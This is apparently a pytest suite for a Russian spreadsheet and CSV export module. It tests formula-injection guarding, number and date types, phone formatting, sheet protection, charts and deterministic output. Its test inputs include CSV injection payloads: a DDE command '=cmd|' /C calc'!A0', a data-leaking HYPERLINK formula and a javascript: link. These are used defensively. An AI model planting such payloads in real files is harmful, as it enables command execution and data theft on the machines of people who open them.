"""Tables as files: no formula ever, numbers stay numbers, names of sheets fit, bytes depend on the table alone."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as some

from registry.sheets.writing import (
    Chart,
    ChartKind,
    Column,
    Kind,
    Link,
    OpenCell,
    Table,
    csv_bytes,
    csv_text,
    guarded,
    phone,
    workbook,
)
from vault.errors import BadInput

FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+7 914 851-00-00",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM",
    "\u3000＝1",
    '=HYPERLINK("https://example.org?"&A1;"x")',
    "=1+1\n=2+2",
    "\u200b=1+1",
    "\ufeff=1+1",
)


def book(*tables: Table) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(workbook(tables)))


def of(*rows: tuple[object, ...], columns: tuple[Column, ...] = (Column("Имя"),)) -> Table:
    return Table("Лист", columns, rows)  # type: ignore[arg-type] # short tests


def lines(table: Table) -> list[list[str]]:
    return list(csv.reader(io.StringIO(csv_text(table)), delimiter=";"))


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_becomes_a_formula(text: str) -> None:
    (cell,) = lines(of((text,)))[1]
    assert cell.startswith("'"), "a spreadsheet program would run it"
    sheet = book(of((text,))).active
    assert sheet is not None
    stored = sheet["A2"]
    assert stored.data_type == "s"
    assert stored.quotePrefix, "a person who edits the cell must not make it run"


@pytest.mark.parametrize("text", FORMULAS)
def test_no_title_becomes_a_formula(text: str) -> None:
    table = Table(text, (Column(text),), (("",),))
    assert lines(table)[0][0].startswith("'")
    with zipfile.ZipFile(io.BytesIO(workbook((table,)))) as parts:
        assert not any(b"<f>" in parts.read(name) for name in parts.namelist())


@given(some.text())
def test_whatever_is_written_is_never_run(text: str) -> None:
    cell = lines(of((text,)))[1]
    assert len(cell) == 1
    first = cell[0].lstrip()[:1]
    assert not first or first not in "=+-@＝＋－＠"


def test_quotes_separators_and_lines_come_back() -> None:
    text = 'ООО "Ромашка"; и; «другие»\nвторая строка'
    assert lines(of((text,)))[1] == [text]
    raw = csv_bytes(of((text,)))
    assert raw.startswith(b"\xef\xbb\xbf") and raw.endswith(b"\r\n")


def test_numbers_stay_numbers() -> None:
    columns = (Column("Ч", Kind.NUMBER, decimals=1), Column("П", Kind.PERCENT, decimals=1), Column("Д", Kind.DATE))
    table = of(
        (-5, 0.7213, date(2026, 10, 1)), (2.5, None, None), ("не видно", "не видно", "не видно"), columns=columns
    )
    assert lines(table)[1:] == [["-5", "72,1%", "01.10.2026"], ["2,5", "", ""], ["не видно"] * 3]
    sheet = book(table).active
    assert sheet is not None
    assert [cell.value for cell in sheet[2]][:2] == [-5, 0.7213]
    assert sheet["C2"].is_date
    assert sheet["A4"].value == "не видно"


@pytest.mark.parametrize(
    ("written", "said"),
    [
        ("+79148510000", "8 (914) 851-00-00"),
        ("+7 (41342) 2-21-22", "8 (41342) 2-21-22"),
        ("+7 914 851 00 00, доб. 3", "8 914 851 00 00, доб. 3"),
        ("8 (914) 851-00-00", "8 (914) 851-00-00"),
        ("2-21-22", "2-21-22"),
        ("+375 29 123-45-67", "+375 29 123-45-67"),
    ],
)
def test_telephones_need_no_guard(written: str, said: str) -> None:
    assert phone(written) == said
    cell = lines(of((written,), columns=(Column("Телефон", Kind.PHONE),)))[1][0]
    assert cell == guarded(said)


def test_only_links_of_the_web_can_be_followed() -> None:
    column = (Column("Ссылка", Kind.LINK),)
    table = of((Link("https://vk.com/school", "ВК"),), (Link("javascript:alert(1)"),), (Link("=cmd"),), columns=column)
    sheet = book(table).active
    assert sheet is not None
    assert sheet["A2"].hyperlink.target == "https://vk.com/school"
    assert sheet["A3"].hyperlink is None and sheet["A4"].hyperlink is None
    assert [row[0] for row in lines(table)[1:]] == ["https://vk.com/school", "javascript:alert(1)", "'=cmd"]


def test_names_of_sheets_fit_and_differ() -> None:
    long = "Отчёт [о] том: что/как\\нибудь*?  очень длинное название листа"
    names = book(
        *(Table(title, (Column("А"),), ()) for title in (long, long, "Лист", "лист", "", "'", "History"))
    ).sheetnames
    assert len({name.casefold() for name in names}) == 7
    assert all(0 < len(name) <= 31 and not set(name) & set("[]:*?/\\") for name in names)


def test_notes_stand_on_a_last_sheet_and_heads_are_frozen() -> None:
    noted = Table("А", (Column("А"), Column("Б")), (("1", "2"),), heading=("Название",), notes=("одно", "другое"))
    found = book(noted)
    assert found.sheetnames == ["А", "Пояснения"]
    sheet = found["А"]
    assert (sheet["A1"].value, sheet["A2"].value, sheet["A3"].value) == ("Название", "А", "1")
    assert sheet.freeze_panes == "A3"
    assert sheet.auto_filter.ref == "A2:B3"
    assert [cell.value for cell in found["Пояснения"]["A"]] == ["А", "одно", "другое"]


def test_a_card_opens_only_what_may_be_typed() -> None:
    table = Table(
        "Карточка",
        (Column("Поле"), Column("Значение", open=True), Column("Ключ", hidden=True)),
        (("Сеть", "", "network"), ("Почта", "a@example.org", "email")),
        protected=True,
        open_cells=(OpenCell(0, 1, ("ВК", "ОК")), OpenCell(1, 1, tuple(f"значение, {n}" for n in range(40)))),
        spare=2,
    )
    found = book(table)
    sheet = found["Карточка"]
    assert sheet.protection.sheet
    assert [sheet.cell(row, 2).protection.locked for row in (1, 2, 3, 4, 5)] == [True, False, False, False, False]
    assert [sheet.cell(row, 1).protection.locked for row in (2, 3, 4)] == [True, True, True]
    assert sheet.column_dimensions["C"].hidden
    rules = {str(rule.sqref): rule.formula1 for rule in sheet.data_validations.dataValidation}
    assert rules["B2"] == '"ВК,ОК"'
    assert rules["B3"] == "Списки!$A$1:$A$40"
    assert found["Списки"].sheet_state == "hidden"


def test_charts_stand_beside_their_table() -> None:
    columns = (Column("Неделя"), Column("Доля", Kind.PERCENT), Column("Число", Kind.NUMBER))
    charts = tuple(
        Chart(kind, f"Рисунок {kind.value}", 0, (1, 2) if kind is not ChartKind.PIE else (2,)) for kind in ChartKind
    )
    table = Table("Р", columns, (("1", 0.5, 3), ("2", None, 4)), charts=charts)
    sheet = book(table)["Р"]
    assert len(sheet._charts) == len(ChartKind)
    empty = Table("Р", columns, (), charts=charts)
    assert not book(empty)["Р"]._charts, "there is nothing to draw"


def test_the_same_table_makes_the_same_bytes_and_nothing_of_the_machine() -> None:
    table = of(("строка",))
    made = workbook((table,), title="Реестр", made_on=date(2026, 11, 22))
    assert made == workbook((table,), title="Реестр", made_on=date(2026, 11, 22))
    with zipfile.ZipFile(io.BytesIO(made)) as parts:
        core = parts.read("docProps/core.xml").decode()
    assert "2026-11-22T00:00:00Z" in core
    assert "<dc:creator></dc:creator>" in core


def test_a_text_too_long_for_a_cell_says_that_it_was_cut() -> None:
    sheet = book(of(("я" * 40_000,))).active
    assert sheet is not None
    value = str(sheet["A2"].value)
    assert len(value) == 32_767 and value.endswith("(обрезано)")


def test_a_table_too_large_for_a_sheet_is_refused() -> None:
    class Many(tuple[tuple[str, ...], ...]):
        def __len__(self) -> int:
            return 1_048_576

    with pytest.raises(BadInput, match="не поместится"):
        workbook((Table("А", (Column("А"),), Many()),))
